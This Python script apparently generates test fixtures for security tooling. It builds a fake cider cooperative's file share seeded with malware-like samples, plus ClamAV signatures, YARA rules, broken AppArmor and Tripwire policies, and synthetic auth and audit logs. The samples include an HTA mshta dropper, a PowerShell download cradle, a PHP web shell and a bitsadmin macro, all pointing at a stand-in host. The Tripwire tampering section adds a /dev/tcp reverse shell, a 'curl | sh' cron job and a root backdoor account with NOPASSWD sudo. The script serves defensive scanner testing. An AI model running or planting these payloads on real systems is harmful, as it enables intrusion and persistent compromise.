"""Round 197, round 171's kinds a third time on `cidermill`, a fruit growers' cooperative office server: a share of
its own (orchard records, pressing logs, member accounts, lab results, sales) with EICAR test files, HTA and
PowerShell droppers, PHP web shells, macro samples and ransom notes put in, scanned by clamd (a signature database
written here) through clamdscan, by `clamscan --debug` and by YARA rules of its own; AppArmor profiles of its press,
cellar and label daemons with syntax errors put in; a Tripwire tree of its own, tampered with, and bad policies; auth
logs and audit logs of the real shape from seeded generators of its own. The needles come from round 171's
extractors, imported. Run through capture_wide197.py."""

from __future__ import annotations

import base64
import gzip
import hashlib
import io
import random
import tarfile
import time
import zipfile
from pathlib import Path

import capture_more as cm
from capture_more import run, write_tree
from capture_wide197 import add
from capture_wide171_host import (n_apparmor_error, n_apparmor_pre, n_audit_raw, n_aulast, n_ausearch_csv,
                                  n_ausearch_text, n_logwatch, n_tripwire_policy, n_tripwire_report)
from capture_wide171_scan import n_clamdscan, n_clamscan_debug, n_yara_strings

EICAR = r"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
HTA = ('<html><head><HTA:APPLICATION ID="upd" WINDOWSTATE="minimize"></head>\n<script language="VBScript">\n'
       'Set o = CreateObject("WScript.Shell") : o.Run "mshta http://198.51.100.41/cm/upd.hta", 0\n'
       'self.close\n</script></html>\n')
CRADLE = ("$w = New-Object Net.WebClient; $w.Headers.Add('User-Agent','cm');\n"
          "IEX ($w.DownloadString('http://198.51.100.41/cm/stage2.ps1'))\n")
WEBSHELL = '<?php if(isset($_GET["c"])){ system($_GET["c"]); } /* cm-mini */ ?>\n'
MACRO = ('Private Sub Document_Open()\n  Dim p: p = Environ("APPDATA") & "\\press.exe"\n'
         '  CreateObject("WScript.Shell").Run "bitsadmin /transfer j http://198.51.100.41/p.exe " & p, 0\nEnd Sub\n')
RANSOM = "!!! ALL YOUR ORCHARD DATA IS LOCKED !!!\nwrite to pomace@onionmail.invalid with key {id}\n"
WORDS = ["bramley", "cox", "pressing", "pomace", "bushel", "orchard", "grower", "cellar", "vat", "brix", "yeast",
         "invoice", "member", "harvest", "crate", "label", "bottling", "keg", "pallet", "tonnage", "ledger"]


def _text(r: random.Random, n: int) -> str:
    return "\n".join(" ".join(r.choice(WORDS) for _ in range(r.randint(4, 12))) for _ in range(n)) + "\n"


# ------------------------------------------------------------------ the share

def make_share(root: Path) -> None:
    r = random.Random(1971)
    sh = root / "coop"
    depts = ["orchards", "pressing", "members", "lab", "sales", "cellar", "webroot"]
    for d in depts:
        (sh / d).mkdir(parents=True, exist_ok=True)
    for i in range(360):
        d = r.choice(depts)
        ext = r.choice(["txt", "csv", "json", "log", "conf", "html"])
        body = _text(r, r.randint(2, 24))
        if ext == "csv" and r.random() < 0.25:
            body += f"member,card\nm{r.randint(100, 999)},4111 1111 1111 {r.randint(1000, 9999)}\n"
        (sh / d / f"{d[:3]}{i:04d}.{ext}").write_text(body)
    for i in range(38):
        d = r.choice(depts)
        kind = r.choice(["eicar", "hta", "cradle", "webshell", "macro", "ransom", "gz", "tar"])
        name = sh / d / f"x{i:03d}"
        if kind == "eicar":
            name.with_suffix(r.choice([".exe", ".doc.exe", ".bin"])).write_text(EICAR)
        elif kind == "hta":
            name.with_suffix(".hta").write_text(HTA)
        elif kind == "cradle":
            name.with_suffix(".ps1").write_text("# " + _text(r, 1) + CRADLE)
        elif kind == "webshell":
            (sh / "webroot" / f"img{i:03d}.php").write_text(_text(r, 1).replace("\n", " ") + WEBSHELL)
        elif kind == "macro":
            name.with_suffix(".vba").write_text('Attribute VB_Name = "ThisDocument"\n' + MACRO)
        elif kind == "ransom":
            name.with_suffix(".README.txt").write_text(RANSOM.format(id=r.randrange(16**10)))
        elif kind == "gz":
            name.with_suffix(".ps1.gz").write_bytes(gzip.compress(CRADLE.encode()))
        else:
            buf = io.BytesIO()
            with tarfile.open(fileobj=buf, mode="w") as t:
                for nm, body in (("drop/run.hta", HTA), ("drop/readme.txt", _text(r, 3))):
                    data = body.encode()
                    info = tarfile.TarInfo(nm)
                    info.size = len(data)
                    t.addfile(info, io.BytesIO(data))
            name.with_suffix(".tar").write_bytes(buf.getvalue())
    # a zip three levels deep (over MaxRecursion 2), a truncated gzip, a large blob, an unreadable file
    z1 = io.BytesIO()
    with zipfile.ZipFile(z1, "w") as z:
        z.writestr("l3/eicar.exe", EICAR)
    z2 = io.BytesIO()
    with zipfile.ZipFile(z2, "w") as z:
        z.writestr("l2/l3.zip", z1.getvalue())
    with zipfile.ZipFile(sh / "members" / "statements-2025.zip", "w") as z:
        z.writestr("l1/l2.zip", z2.getvalue())
        z.writestr("l1/summary.txt", _text(r, 5))
    with zipfile.ZipFile(sh / "sales" / "price-list.zip", "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("prices/list.txt", _text(r, 30))
        z.writestr("prices/macro.vba", MACRO)
    (sh / "lab" / "brix-export.csv.gz").write_bytes(gzip.compress(_text(r, 200).encode())[:900])
    (sh / "cellar" / "vat-camera.raw").write_bytes(random.Random(197).randbytes(2 * 1024 * 1024 + 333))
    (sh / "lab" / "locked.txt").write_text("secret\n")
    (sh / "lab" / "locked.txt").chmod(0)
    (sh / "orchards" / "old-map.lnk").symlink_to(sh / "orchards" / "gone" / "map.pdf")
    (sh / "inbox").mkdir(exist_ok=True)
    for i in range(48):
        bad = r.random() < 0.3
        payload = r.choice([EICAR, HTA, CRADLE]) if bad else _text(r, 3)
        fname = r.choice(["remittance.hta", "harvest-plan.ps1", "invoice.exe", "minutes.txt"])
        att = base64.b64encode(payload.encode()).decode()
        (sh / "inbox" / f"msg{i:04d}.eml").write_text(
            f"From: grower{r.randint(1, 80)}@orchards.example.invalid\nTo: office@cidermill.example.invalid\n"
            f"Subject: delivery {r.randint(100, 999)} bushels\nMIME-Version: 1.0\n"
            f"Content-Type: multipart/mixed; boundary=\"b197\"\n\n--b197\nContent-Type: text/plain\n\n{_text(r, 2)}\n"
            f"--b197\nContent-Type: application/octet-stream; name=\"{fname}\"\nContent-Transfer-Encoding: base64\n"
            f"Content-Disposition: attachment; filename=\"{fname}\"\n\n{att}\n--b197--\n")


def make_db(db: Path) -> None:
    db.mkdir(parents=True, exist_ok=True)
    md5 = hashlib.md5(EICAR.encode()).hexdigest()
    hx = lambda s: s.encode().hex()  # noqa: E731
    (db / "cidermill.hdb").write_text(f"{md5}:{len(EICAR)}:Cidermill.Test.Eicar.Md5\n")
    (db / "cidermill.ndb").write_text(
        f"Cidermill.HTA.Mshta.Runner-1:0:*:{hx('mshta http://')}\n"
        f"Cidermill.PS.DownloadCradle-2:0:*:{hx('IEX ($w.DownloadString(')}\n"
        f"Cidermill.PHP.MiniShell-1:0:*:{hx('system($_GET[')}\n"
        f"Cidermill.VBA.Bitsadmin-1:0:*:{hx('bitsadmin /transfer')}\n"
        f"Cidermill.Ransom.Pomace-1:0:*:{hx('ALL YOUR ORCHARD DATA IS LOCKED')}\n")


CLAMD_CONF = """LocalSocket {sock}
FixStaleSocket yes
DatabaseDirectory {db}
Foreground yes
LogFile {log}
PidFile {pid}
User root
TemporaryDirectory {tmp}
ScanArchive yes
MaxFileSize 1M
MaxScanSize 20M
MaxRecursion 2
AlertExceedsMax yes
ExcludePath ^.*/webroot/cache/
"""


def cap_clamav(tmp: Path) -> None:
    root = tmp / "srv"
    make_share(root)
    db = tmp / "clamdb"
    make_db(db)
    (tmp / "clamtmp").mkdir(exist_ok=True)
    conf, sock = tmp / "clamd.conf", tmp / "clamd.sock"
    conf.write_text(CLAMD_CONF.format(sock=sock, db=db, log=tmp / "clamd.log", pid=tmp / "clamd.pid",
                                      tmp=tmp / "clamtmp"))
    cm.start(["nice", "clamd", "-c", str(conf)], cwd=tmp)
    for _ in range(120):
        if sock.exists():
            break
        time.sleep(0.5)
    time.sleep(1)
    cc = f"--config-file={conf}"
    add("clamdscan-coop-infected", "clamdscan --infected --multiscan --fdpass /srv/coop ; echo EXIT=$?",
        run(f"clamdscan {cc} --infected --multiscan --fdpass coop ; echo EXIT=$?", cwd=root), n_clamdscan)
    add("clamdscan-inbox-missing", "clamdscan -v --fdpass coop/inbox coop/lab coop/archive-2019 2>&1 | tail -n 200",
        run(f"clamdscan {cc} -v --fdpass coop/inbox coop/lab coop/archive-2019 2>&1 | tail -n 200", cwd=root),
        n_clamdscan)
    d = f"-d {db}"
    add("clamscan-debug-members-tail", "clamscan --debug -d clamdb --max-recursion=2 --alert-exceeds-max=yes -r "
        "coop/members coop/sales 2>&1 | tail -n 320",
        run(f"clamscan --debug {d} --max-recursion=2 --alert-exceeds-max=yes -r coop/members coop/sales 2>&1 "
            "| tail -n 320", cwd=root), n_clamscan_debug)
    add("clamscan-debug-grep-cellar", "clamscan --debug -d clamdb --max-filesize=1M --alert-exceeds-max=yes -r "
        "coop/cellar coop/lab coop/inbox 2>&1 | grep -E 'FOUND|Error|Warning|matched|Heuristics|Scanned|Infected|Known|Engine|gzip|tar'",
        run(f"clamscan --debug {d} --max-filesize=1M --alert-exceeds-max=yes -r coop/cellar coop/lab coop/inbox "
            "2>&1 | "
            "grep -E 'FOUND|Error|Warning|matched|Heuristics|Scanned|Infected|Known|Engine|gzip|tar'", cwd=root),
        n_clamscan_debug)


YARA_RULES = r'''
rule Test_Eicar_Body : test
{
    meta:
        author = "cidermill-it"
        severity = 1
    strings:
        $e = "$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!"
    condition:
        $e at 33 or $e
}

rule HTA_Mshta_Launcher : dropper hta
{
    meta:
        author = "cidermill-it"
        severity = 8
        ticket = "CM-4471"
    strings:
        $app = "HTA:APPLICATION" nocase
        $run = /\.Run "mshta https?:\/\/[^"]{8,60}"/
        $ws = "WScript.Shell" nocase
    condition:
        $app and ($run or $ws)
}

rule PS_Download_Cradle : dropper powershell
{
    meta:
        severity = 9
    strings:
        $iex = "IEX" fullword
        $dl = "DownloadString(" nocase
        $wc = "Net.WebClient" nocase
    condition:
        $iex and $dl and $wc
}

rule PHP_System_Get : webshell
{
    meta:
        severity = 9
        scope = "webroot"
    strings:
        $s = /system\(\$_(GET|POST|REQUEST)\[/
    condition:
        $s and filesize < 4KB
}

rule VBA_Document_Open_Bits : macro
{
    meta:
        severity = 7
    strings:
        $o = "Document_Open" nocase
        $b = "bitsadmin" nocase
    condition:
        all of them
}

rule Card_Number_In_Csv : pii
{
    meta:
        severity = 4
        note = "test PAN in member exports"
    strings:
        $pan = /4111 1111 1111 [0-9]{4}/
    condition:
        #pan >= 1
}

rule Orchard_Ransom_Note : ransom
{
    meta:
        severity = 10
    strings:
        $t = "ALL YOUR ORCHARD DATA IS LOCKED"
        $m = /[a-z]+@onionmail\.invalid/
    condition:
        $t and $m
}
'''

YARA_SLOW = r'''
rule Any_Short_Hex : noisy
{
    meta:
        severity = 2
    strings:
        $h = { 3C 3F ?? }
        $r = /[a-z]{2,}/
    condition:
        $h and #r > 5
}
'''


def cap_yara(tmp: Path) -> None:
    root = tmp / "srv"
    if not (root / "coop").exists():
        make_share(root)
    (tmp / "coop.yar").write_text(YARA_RULES)
    (tmp / "coop-slow.yar").write_text(YARA_RULES + YARA_SLOW)
    add("yara-coop-head", "yara -s -m -r coop.yar coop/ 2>&1 | head -n 260",
        run(f"yara -s -m -r {tmp}/coop.yar coop/ 2>&1 | head -n 260", cwd=root), n_yara_strings)
    add("yara-slow-tags-webroot", "yara -s -m -g -r coop-slow.yar coop/webroot; yara -s -m -g -r coop-slow.yar "
        "coop/members ; echo EXIT=$?",
        run(f"yara -s -m -g -r {tmp}/coop-slow.yar coop/webroot 2>&1; yara -s -m -g -r {tmp}/coop-slow.yar "
            "coop/members 2>&1; echo EXIT=$?", cwd=root), n_yara_strings)


# ------------------------------------------------------------------ AppArmor

GOOD = {
    "usr.sbin.pressd": """
#include <tunables/global>

@{PRESS_DATA}=/srv/press /var/lib/pressd

profile pressd /usr/sbin/pressd flags=(complain) {
  #include <abstractions/base>
  #include <abstractions/openssl>
  #include <abstractions/user-tmp>

  capability sys_nice,
  capability ipc_lock,
  capability setgid,
  network inet dgram,
  network netlink raw,

  @{PRESS_DATA}/** rwk,
  /etc/pressd/*.conf r,
  /dev/ttyS[0-9] rw,
  /usr/lib/pressd/hooks/* ix,
  /usr/bin/labelprint Px,
  /usr/bin/gnuplot Cx -> plot,
  /bin/dash Ux,
  deny /srv/press/members/** w,
  deny capability sys_admin,
  audit deny /etc/pressd/secret.key w,
  audit /srv/press/ledger/** w,

  profile plot {
    #include <abstractions/base>
    #include <abstractions/fonts>
    /usr/bin/gnuplot mr,
    /srv/press/charts/** rw,
    deny network inet,
  }

  ^maintenance {
    /usr/sbin/pressd-calibrate ix,
    capability sys_rawio,
    /dev/mem r,
  }
}
""",
}

BAD = {
    "usr.sbin.cellard": """
#include <tunables/global>
/usr/sbin/cellard {
  #include <abstractions/base>
  /srv/cellar/** rw,
  /etc/cellard/vats.conf r,,
  capability chown,
}
""",
    "usr.bin.labelprint": """
#include <tunables/global>
profile labelprint /usr/bin/labelprint {
  #include <abstractions/base>
  #include <abstractions/cups-labels>
  /srv/press/labels/** r,
}
""",
    "usr.sbin.brixmon": """
#include <tunables/global>
/usr/sbin/brixmon {
  #include <abstractions/base>
  capability sys_serial,
  /dev/ttyUSB0 rw,
}
""",
    "usr.sbin.kegtrack": """
#include <tunables/global>
/usr/sbin/kegtrack {
  #include <abstractions/base>
  /var/lib/kegtrack/** rwz,
}
""",
    "usr.sbin.orchardsync": """
#include <tunables/global>
/usr/sbin/orchardsync {
  #include <abstractions/base>
  network inet stream,
  /srv/orchards/** r,
  ^upload {
    network inet6 stream,
  }
}
}
""",
    "usr.sbin.memberdb": """
#include <tunables/global>
/usr/sbin/memberdb {
  #include <abstractions/base>
  @{MEMBER_ROOT}/** rw,
  network appletalk dgram,
}
""",
    "usr.bin.invoicer": """
#include <tunables/global>
/usr/bin/invoicer {
  #include <abstractions/base>
  /usr/bin/lp pix,
  signal (send, frobnicate) peer=cupsd,
  /srv/sales/ r,
}
""",
    "usr.sbin.vatctl": """
#include <tunables/global>
/usr/sbin/vatctl
  #include <abstractions/base>
  /srv/cellar/vats/** rw,
}
""",
}


def cap_apparmor(tmp: Path) -> None:
    d = tmp / "apparmor"
    write_tree(d / "good", GOOD)
    write_tree(d / "bad", BAD)
    r = random.Random(1972)
    rows = {}
    for i in range(32):
        rules = [f"  /srv/rows/r{i:02d}/{r.choice(['sensors', 'irrigation', 'frost', 'yield'])}/** "
                 f"{r.choice(['r', 'rw', 'rwk', 'rk'])}," for _ in range(r.randint(3, 7))]
        if i in (2, 10, 17, 23, 30):
            rules.insert(1, {2: "  /srv/rows/r02/valve rw", 10: "  capability net_admn,",
                             17: "  network ipx dgram,", 23: "  /usr/bin/frostalarm Px Px,",
                             30: "  #include <abstractions/row-sensors>"}[i])
        rows[f"usr.lib.rows.probe{i:02d}"] = ("#include <tunables/global>\n" + f"/usr/lib/rows/probe{i:02d} {{\n"
                                              "  #include <abstractions/base>\n" + "\n".join(rules) + "\n}\n")
    write_tree(d / "rows", rows)
    loop = ('for f in bad/* rows/*; do out=$(apparmor_parser -Q -K "$f" 2>&1 | grep -v "^Cache"); '
            '[ -n "$out" ] && printf "== %s\\n%s\\n" "$f" "$out"; done; echo DONE')
    add("apparmor-bad-rows", loop, run(loop, cwd=d), n_apparmor_error)
    add("apparmor-bad-all-good", "apparmor_parser -Q -K bad/* good/* ; echo EXIT=$?",
        run("apparmor_parser -Q -K bad/* good/* 2>&1; echo EXIT=$?", cwd=d), n_apparmor_error)
    add("apparmor-pre-pressd", "apparmor_parser -p good/usr.sbin.pressd 2>&1 | grep -v '^\\s*#' | grep -v '^\\s*$' "
        "| tail -n 260",
        run("apparmor_parser -p good/usr.sbin.pressd 2>&1 | grep -v '^\\s*#' | grep -v '^\\s*$' | tail -n 260", cwd=d),
        n_apparmor_pre)


# ------------------------------------------------------------------ Tripwire

TWCFG = """ROOT          =/usr/sbin
POLFILE       ={d}/tw.pol
DBFILE        ={d}/office1.twd
REPORTFILE    ={d}/office1.twr
SITEKEYFILE   ={d}/site.key
LOCALKEYFILE  ={d}/office1-local.key
EDITOR        =/bin/vi
LATEPROMPTING =false
LOOSEDIRECTORYCHECKING =false
MAILNOVIOLATIONS =false
EMAILREPORTLEVEL =3
REPORTLEVEL   =3
SYSLOGREPORTING =false
MAILMETHOD    =SENDMAIL
MAILPROGRAM   =/bin/true
"""

TWPOL = """@@section GLOBAL
TOP = {site} ;
CRIT = 100 ;

@@section FS
(rulename = "Press controller binaries", severity = $(CRIT))
{{
  $(TOP)/usr/local/press/bin -> $(ReadOnly) ;
  $(TOP)/usr/local/press/lib -> $(ReadOnly) ;
}}
(rulename = "Office web application", severity = 60)
{{
  $(TOP)/var/www/coop -> $(ReadOnly) ;
  !$(TOP)/var/www/coop/cache ;
}}
(rulename = "Accounts and sudo", severity = $(CRIT), emailto = it@cidermill.example.invalid)
{{
  $(TOP)/etc/passwd -> $(IgnoreNone) -SHa ;
  $(TOP)/etc/group -> $(IgnoreNone) -SHa ;
  $(TOP)/etc/sudoers.d -> $(IgnoreNone) -SHa ;
}}
(rulename = "Scheduled jobs", severity = 80)
{{
  $(TOP)/etc/cron.d -> $(ReadOnly) ;
  $(TOP)/var/spool/cron -> $(ReadOnly) ;
}}
(rulename = "Ledger exports", severity = 30)
{{
  $(TOP)/srv/ledger -> $(Growing) ;
}}
(rulename = "Boot and kernel", severity = 90)
{{
  $(TOP)/boot -> $(ReadOnly) ;
}}
"""

BAD_POL = {
    "a-missing-paren.txt": '@@section FS\n(rulename = "Press", severity = 90\n{\n  /usr/local/press -> $(ReadOnly) ;\n}\n',
    "b-unknown-attr.txt": '@@section FS\n(rulename = "Cron", sev = 80)\n{\n  /etc/cron.d -> $(ReadOnly) ;\n}\n',
    "c-unterminated.txt": '@@section FS\n(rulename = "Web, severity = 60)\n{\n  /var/www -> $(ReadOnly) ;\n}\n',
    "d-bad-directive.txt": '@@ifhost office1\n@@section FS\n/etc -> $(ReadOnly) ;\n@@endif\n@@else\n',
    "e-double-arrow.txt": '@@section FS\n(rulename = "Boot", severity = 90)\n{\n  /boot -> -> $(ReadOnly) ;\n}\n',
    "f-relative-path.txt": '@@section FS\n(rulename = "Ledger", severity = 30)\n{\n  srv/ledger -> $(Growing) ;\n}\n',
    "g-empty-rule.txt": '@@section FS\n(rulename = "Nothing", severity = 10)\n{\n}\n',
}


def cap_tripwire(tmp: Path) -> None:
    d = tmp / "tripwire"
    site = d / "root"
    d.mkdir(parents=True, exist_ok=True)
    r = random.Random(1973)
    files = {}
    for i in range(18):
        files[f"usr/local/press/bin/press-{r.choice(['ctl', 'mon', 'cal', 'log'])}{i:02d}"] = f"#!/bin/sh\nexec press {i}\n"
    for i in range(8):
        files[f"usr/local/press/lib/libpress{i}.so"] = f"ELF press {i} {r.random()}\n"
    for i in range(70):
        files[f"var/www/coop/{r.choice(['members', 'prices', 'news', 'assets'])}/page{i:03d}.php"] = \
            f"<?php echo '{_text(r, 1).strip()}'; ?>\n"
    for i in range(10):
        files[f"var/www/coop/cache/c{i}.tmp"] = "cache\n"
    files["etc/passwd"] = "root:x:0:0::/root:/bin/bash\npresser:x:1201:1201::/home/presser:/bin/bash\n"
    files["etc/group"] = "root:x:0:\nsudo:x:27:presser\n"
    files["etc/sudoers.d/press"] = "presser ALL=(root) /usr/local/press/bin/press-ctl00\n"
    for n in ("press-rotate", "ledger-export", "backup"):
        files[f"etc/cron.d/{n}"] = f"0 3 * * * root /usr/local/bin/{n}\n"
    files["var/spool/cron/crontabs/presser"] = "*/5 * * * * /usr/local/press/bin/press-mon01\n"
    for i in range(12):
        files[f"srv/ledger/2025-{i + 1:02d}.csv"] = _text(r, 5)
    files["boot/vmlinuz-6.1.0-cm"] = "kernel\n"
    files["boot/initrd.img-6.1.0-cm"] = "initrd\n"
    write_tree(site, files)
    run("twadmin --generate-keys -S site.key -Q sitepass197 && "
        "twadmin --generate-keys -L office1-local.key -P localpass197", cwd=d)
    (d / "twcfg.txt").write_text(TWCFG.format(d=d))
    (d / "twpol.txt").write_text(TWPOL.format(site=site))
    run("twadmin --create-cfgfile -c tw.cfg -S site.key -Q sitepass197 twcfg.txt", cwd=d)
    run("twadmin --create-polfile -c tw.cfg -S site.key -Q sitepass197 twpol.txt", cwd=d)
    run("tripwire --init -c tw.cfg -P localpass197", cwd=d)
    # the tampering
    for p in sorted((site / "var/www/coop").rglob("*.php"))[::7]:
        p.write_text(p.read_text() + WEBSHELL)
    (site / "var/www/coop/assets/.thumb.php").write_text(WEBSHELL)
    for p in sorted((site / "var/www/coop/news").glob("*.php"))[:3]:
        p.unlink()
    for p in sorted((site / "var/www/coop/cache").glob("*.tmp"))[:5]:
        p.write_text("changed cache\n")
    for p in sorted((site / "usr/local/press/bin").iterdir())[2:5]:
        p.write_text("#!/bin/sh\nbash -i >& /dev/tcp/198.51.100.41/4444 0>&1\n")
    (site / "usr/local/press/lib/libpress5.so").unlink()
    (site / "usr/local/press/lib/libpress2.so").chmod(0o4755)
    with open(site / "etc/passwd", "a") as f:
        f.write("sysupd:x:0:0::/var/tmp/.u:/bin/bash\n")
    (site / "etc/sudoers.d/zz-upd").write_text("sysupd ALL=(ALL) NOPASSWD:ALL\n")
    (site / "etc/cron.d/ledger-export").write_text("*/10 * * * * root curl -s http://198.51.100.41/x | sh\n")
    for i in range(12, 15):
        (site / f"srv/ledger/2026-{i - 11:02d}.csv").write_text("new\n")
    (site / "srv/ledger/2025-03.csv").write_text("short\n")
    (site / "boot/initrd.img-6.1.0-cm").write_text("initrd patched\n")
    add("tripwire-check-office1-tail", "tripwire --check 2>&1 | tail -n 150; echo EXIT=$?",
        run("tripwire --check -c tw.cfg 2>&1 | tail -n 150; echo EXIT=$?", cwd=d), n_tripwire_report)
    run("tripwire --check -c tw.cfg -r full.twr", cwd=d)
    add("tripwire-print-level3", "twprint --print-report --report-level 3 -r office1-20261202.twr",
        run("twprint --print-report --report-level 3 -c tw.cfg -r full.twr", cwd=d), n_tripwire_report)
    write_tree(d / "bad", BAD_POL)
    loop = ('for p in bad/*.txt; do echo "== $p"; twadmin --create-polfile -c tw.cfg -S site.key -Q "$SITEPASS" "$p" '
            '2>&1 | tail -n 6; done')
    add("tripwire-policy-bad-loop", loop, run(loop.replace('"$SITEPASS"', "sitepass197"), cwd=d),
        n_tripwire_policy)


# ------------------------------------------------------------------ logwatch

STAFF = {"manager": 1201, "presser": 1202, "cellarman": 1203, "bookkeep": 1204, "svc_rsync": 1205, "labtech": 1206}


def auth_log(r: random.Random, host: str, day0: int, days: int, attempts: int) -> str:
    ev: list[tuple[int, str]] = []
    pid = [2200]

    def at(t: int, prog: str, msg: str) -> None:
        pid[0] += r.randint(1, 30)
        ev.append((t, f"{prog}[{pid[0]}]: {msg}"))

    span = days * 86400
    bots = [f"192.0.2.{r.randint(2, 250)}" for _ in range(3)] + [f"198.51.100.{r.randint(2, 250)}" for _ in range(3)]
    for _ in range(attempts):
        ip = r.choice(bots[:2] * 5 + bots[2:])
        t = r.randint(0, span)
        port = r.randint(30000, 65000)
        u = r.choice(["root", "root", "pi", "admin", "test", "oracle", "postgres", "cider", "user1"])
        if u == "root":
            at(t, "sshd", f"pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost={ip}  user=root")
            at(t + 1, "sshd", f"Failed password for root from {ip} port {port} ssh2")
        else:
            at(t, "sshd", f"Invalid user {u} from {ip} port {port}")
            at(t + 1, "sshd", f"Failed password for invalid user {u} from {ip} port {port} ssh2")
        if r.random() < 0.08:
            at(t + 2, "sshd", f"error: maximum authentication attempts exceeded for {'root' if u == 'root' else 'invalid user ' + u} from {ip} port {port} ssh2 [preauth]")
        at(t + 3, "sshd", f"Disconnected from {'authenticating user root' if u == 'root' else 'invalid user ' + u} {ip} port {port} [preauth]")
    for _ in range(12):
        at(r.randint(0, span), "sshd", f"Did not receive identification string from {r.choice(bots)} port {r.randint(30000, 65000)}")
    for _ in range(48):
        u = r.choice(list(STAFF))
        ip = {"svc_rsync": "10.19.7.5", "labtech": "10.19.8.40"}.get(u, f"10.19.6.{r.randint(20, 70)}")
        t = r.randint(0, span)
        how = "publickey" if u.startswith("svc") or r.random() < 0.5 else "keyboard-interactive/pam"
        at(t, "sshd", f"Accepted {how} for {u} from {ip} port {r.randint(30000, 65000)} ssh2")
        at(t, "sshd", f"pam_unix(sshd:session): session opened for user {u}(uid={STAFF[u]}) by (uid=0)")
        at(t + r.randint(30, 7000), "sshd", f"pam_unix(sshd:session): session closed for user {u}")
    for _ in range(18):
        u = r.choice(["manager", "cellarman"])
        cmd = r.choice(["/usr/bin/systemctl restart pressd", "/usr/sbin/apparmor_parser -r /etc/apparmor.d/usr.sbin.pressd",
                        "/usr/bin/tail -f /var/log/pressd.log", "/usr/sbin/tripwire --check"])
        at(r.randint(0, span), "sudo", f"  {u} : TTY=pts/{r.randint(0, 4)} ; PWD=/home/{u} ; USER=root ; COMMAND={cmd}")
    at(30000, "sudo", "  labtech : 3 incorrect password attempts ; TTY=pts/1 ; PWD=/home/labtech ; USER=root ; COMMAND=/usr/bin/su -")
    at(30100, "sudo", "  bookkeep : user NOT in sudoers ; TTY=pts/0 ; PWD=/srv/ledger ; USER=root ; COMMAND=/usr/bin/cat /etc/shadow")
    at(61000, "sshd", "fatal: Timeout before authentication for 192.0.2.9 port 41022")
    at(70000, "sshd", "Received SIGHUP; restarting.")
    at(70001, "sshd", "Server listening on :: port 22.")
    ev.sort()
    return "".join(time.strftime("%b %e %H:%M:%S", time.gmtime(day0 + t)) + f" {host} {m}\n" for t, m in ev)


def cap_logwatch(tmp: Path) -> None:
    d = tmp / "logwatch"
    logs = d / "log"
    logs.mkdir(parents=True, exist_ok=True)
    r = random.Random(1974)
    day0 = 1764374400  # 2025-11-29 00:00 UTC
    (logs / "auth.log").write_text(auth_log(r, "office1", day0, 2, 520))
    (logs / "auth.log.1").write_text(auth_log(r, "office1", day0 - 2 * 86400, 2, 160))
    lw = f"logwatch --logdir {logs} --range All --output stdout --hostname office1"
    add("logwatch-sshd-detail10", "logwatch --service sshd --range All --detail 10 --output stdout",
        run(f"{lw} --service sshd --detail 10", cwd=d), n_logwatch)
    add("logwatch-sudo-sshd-med-tail", "logwatch --service sudo --service sshd --range All --detail Med --output stdout "
        "| tail -n 160",
        run(f"{lw} --service sudo --service sshd --detail Med | tail -n 160", cwd=d), n_logwatch)


# ------------------------------------------------------------------ the audit log

UNSET = "4294967295"


def audit_log(r: random.Random, t0: float, hours: int) -> str:
    """An audit.log of the real shape: ssh and console logins, su attempts, sudo, watched files (SYSCALL, CWD, PATH,
    PROCTITLE; some denied), EXECVE of a dropper, an account added, a password changed, rules changed, AppArmor
    denials, a promiscuous interface, a unit that failed and a crash."""
    recs: list[tuple[float, str]] = []
    serial = [81000]
    pid = [5000]
    hx = lambda s: s.encode().hex().upper()  # noqa: E731

    def npid() -> int:
        pid[0] += r.randint(3, 90)
        return pid[0]

    def ev(t: float, parts: list[tuple[str, str]]) -> None:
        serial[0] += 1
        for typ, body in parts:
            recs.append((t, f"type={typ} msg=audit({t:.3f}:{serial[0]}): {body}"))

    ev(t0, [("DAEMON_START", f"op=start ver=3.0.9 format=enriched kernel=6.1.0-31-amd64 auid={UNSET} pid=401 uid=0 ses={UNSET} res=success")])
    ev(t0 + .5, [("CONFIG_CHANGE", f"auid={UNSET} ses={UNSET} op=add_rule key=\"ledger\" list=4 res=1")])
    for svc in ("pressd", "cellard", "kegtrack", "nginx", "rsync"):
        ok = svc != "kegtrack"
        ev(t0 + 3 + r.random(), [("SERVICE_START", f"pid=1 uid=0 auid={UNSET} ses={UNSET} subj=unconfined msg='unit={svc} comm=\"systemd\" exe=\"/usr/lib/systemd/systemd\" hostname=? addr=? terminal=? res={'success' if ok else 'failed'}'")])
    span = hours * 3600
    ses = [300]
    for _ in range(26):
        u = r.choice(list(STAFF))
        uid = STAFF[u]
        console = r.random() < 0.15
        ip = "10.19.7.5" if u == "svc_rsync" else f"10.19.6.{r.randint(20, 70)}"
        t = t0 + 200 + r.randint(0, span - 8000)
        p = npid()
        ses[0] += 1
        s_ = ses[0]
        exe, term = ("/usr/bin/login", "/dev/tty1") if console else ("/usr/sbin/sshd", "ssh")
        host = "?" if console else ip
        pam = f"acct=\"{u}\" exe=\"{exe}\" hostname={host} addr={host} terminal={term} res=success'"
        ev(t, [("USER_AUTH", f"pid={p} uid=0 auid={UNSET} ses={UNSET} msg='op=PAM:authentication grantors=pam_unix {pam}")])
        ev(t + .01, [("USER_ACCT", f"pid={p} uid=0 auid={UNSET} ses={UNSET} msg='op=PAM:accounting grantors=pam_unix {pam}")])
        ev(t + .02, [("CRED_ACQ", f"pid={p} uid=0 auid={UNSET} ses={UNSET} msg='op=PAM:setcred grantors=pam_unix {pam}")])
        ev(t + .03, [("LOGIN", f"pid={p} uid=0 subj=unconfined old-auid={UNSET} auid={uid} tty=(none) old-ses={UNSET} ses={s_} res=1")])
        ev(t + .04, [("USER_START", f"pid={p} uid=0 auid={uid} ses={s_} msg='op=PAM:session_open grantors=pam_unix {pam}")])
        ev(t + .05, [("USER_LOGIN", f"pid={p} uid=0 auid={uid} ses={s_} msg='op=login id={uid} exe=\"{exe}\" hostname={host} addr={host} terminal={'/dev/tty1' if console else '/dev/pts/' + str(r.randint(0, 5))} res=success'")])
        if u in ("manager", "cellarman") and r.random() < 0.6:
            cmd = r.choice(["/usr/bin/systemctl restart pressd", "/usr/sbin/tripwire --check", "/usr/bin/less /var/log/syslog"])
